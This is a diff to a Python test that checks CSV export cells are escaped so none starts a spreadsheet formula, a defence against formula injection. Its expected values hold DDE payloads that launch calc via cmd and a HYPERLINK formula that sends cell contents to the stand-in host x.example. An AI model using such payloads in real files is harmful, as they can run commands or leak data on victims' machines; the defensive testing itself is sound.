@@ -431,7 +431,8 @@ def test_acled_csv_cells_never_start_a_formula(picture: Picture) -> None:
     hostile = dataclasses.replace(picture, events=(event,), documents=documents, actors=actors)
     [row] = _csv_rows(render(hostile, "acled-csv"))[1]
     assert row["location"] == "'-2+3+cmd|' /C calc'!A0"
-    assert row["notes"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    # notes is sitroom's own description ("On 1 March 2024, ..."), which starts with no formula
+    assert not row["notes"].startswith(("=", "+", "-", "@", "\t", "\r"))
     assert row["source"] == '\'=HYPERLINK("http://x.example/?"&A1,"Wire")'
     assert row["actor1"] == "'+1+1"
     assert (row["latitude"], row["longitude"]) == ("-33.8688", "-70.6693")
